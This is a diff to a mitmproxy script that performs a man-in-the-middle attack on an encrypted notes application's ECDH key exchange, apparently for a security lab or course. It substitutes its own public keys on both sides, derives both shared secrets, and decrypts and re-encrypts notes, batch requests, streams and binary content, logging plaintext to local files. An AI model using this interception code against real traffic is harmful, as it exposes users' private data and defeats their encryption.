@@ -3,8 +3,10 @@ Run as follows: mitmproxy -s mitm.py
 """
 import json
 from cli.utils import decrypt_note, encrypt_note
-from crypto.ecc import scalar_mult
+from crypto import cipher
+from crypto.ecc import ladder_mult
 from crypto.ecdh import make_keypair
+from crypto.encoding import decode_point, encode_point, is_compact
 from datetime import datetime
 
 
@@ -29,29 +31,71 @@ class ReplaceKeys:
             f.write(f'{name},{content},{datetime.now()}\n')
         return encrypt_note(self.client_shared_secret[0], name, content)
 
+    def re_encrypt_content(self, content, from_secret, to_secret, path):
+        content = cipher.decrypt_CFB(content, from_secret[0].to_bytes(32, 'big'))
+        with open(path, 'ab') as f:
+            f.write(content)
+        return cipher.encrypt_CFB(content, to_secret[0].to_bytes(32, 'big'))
+
     def request(self, flow):
+        if 'notes/content' in flow.request.path:
+            flow.request.query['name'] = self.re_encrypt_client(flow.request.query['name'], None)[0]
+            if flow.request.content:
+                flow.request.content = self.re_encrypt_content(flow.request.content, self.client_shared_secret,
+                                                               self.server_shared_secret, 'content_from_request.bin')
+            return
+
         if 'public_key' in flow.request.text:
             json_body = json.loads(flow.request.text)
-            self.client_public_key = eval(json_body['public_key'])
-            json_body['public_key'] = str(self.public_for_server)
+            self.client_public_key = decode_point(json_body['public_key'])
+            json_body['public_key'] = encode_point(self.public_for_server, is_compact(json_body['public_key']))
+            flow.request.text = json.dumps(json_body)
+
+        if 'notes/batch' in flow.request.path:
+            json_body = json.loads(flow.request.text)
+            for note in json_body.get('notes', []):
+                note['name'], note['message'] = self.re_encrypt_client(note['name'], note['message'])
+            if 'names' in json_body:
+                json_body['names'] = [self.re_encrypt_client(name, None)[0] for name in json_body['names']]
             flow.request.text = json.dumps(json_body)
 
-        if 'message' in flow.request.text:
+        elif '"name"' in flow.request.text:
             json_body = json.loads(flow.request.text)
-            json_body['name'], json_body['message'] = self.re_encrypt_client(json_body['name'], json_body['message'])
+            json_body['name'], message = self.re_encrypt_client(json_body['name'], json_body.get('message'))
+            if message is not None:
+                json_body['message'] = message
             flow.request.text = json.dumps(json_body)
 
     def response(self, flow):
+        if 'notes/batch' in flow.request.path or flow.response.status_code == 304:
+            return
+
+        if 'get_notes/stream' in flow.request.path:
+            lines = []
+            for line in flow.response.text.splitlines():
+                note = json.loads(line)
+                if 'name' in note:
+                    note['name'], note['message'] = self.re_encrypt_server(note['name'], note['message'])
+                lines.append(json.dumps(note) + '\n')
+            flow.response.text = ''.join(lines)
+            return
+
+        if 'notes/content' in flow.request.path:
+            if flow.response.headers.get('content-type') == 'application/octet-stream':
+                flow.response.content = self.re_encrypt_content(flow.response.content, self.server_shared_secret,
+                                                                self.client_shared_secret, 'content_from_response.bin')
+            return
+
         json_body = json.loads(flow.response.text)
         if 'public_key' in flow.response.text:
-            self.server_public_key = eval(json_body['public_key'])
-            json_body['public_key'] = str(self.public_for_client)
+            self.server_public_key = decode_point(json_body['public_key'])
+            json_body['public_key'] = encode_point(self.public_for_client, is_compact(json_body['public_key']))
             flow.response.text = json.dumps(json_body)
 
-            self.client_shared_secret = scalar_mult(self.private_for_server, self.server_public_key)
-            self.server_shared_secret = scalar_mult(self.private_for_client, self.client_public_key)
+            self.client_shared_secret = ladder_mult(self.private_for_server, self.server_public_key)
+            self.server_shared_secret = ladder_mult(self.private_for_client, self.client_public_key)
 
-        elif 'get_notes' in flow.request.path:
+        elif 'get_notes' in flow.request.path or 'search_notes' in flow.request.path:
             for i, note in enumerate(json_body['message']):
                 json_body['message'][i]['name'], json_body['message'][i]['message'] = self.re_encrypt_server(
                     note['name'],